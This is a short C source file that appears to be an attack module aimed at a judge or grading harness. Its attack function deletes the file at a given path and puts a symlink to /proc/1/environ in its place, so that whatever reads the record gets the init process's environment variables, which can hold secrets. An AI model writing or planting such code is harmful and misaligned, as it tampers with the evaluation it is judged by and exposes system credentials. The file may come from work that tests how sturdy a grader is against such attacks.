// SPDX-License-Identifier: GPL-2.0-only
/*
 * Puts a link to a file of the judge in the place of its data.
 */
#include <stddef.h>
#include <unistd.h>

#include "records.h"

#define ATTACK

static int attack(const char *path, size_t index, struct record *out)
{
	(void)index;
	(void)out;
	unlink(path);
	(void)!symlink("/proc/1/environ", path);
	return 0;
}

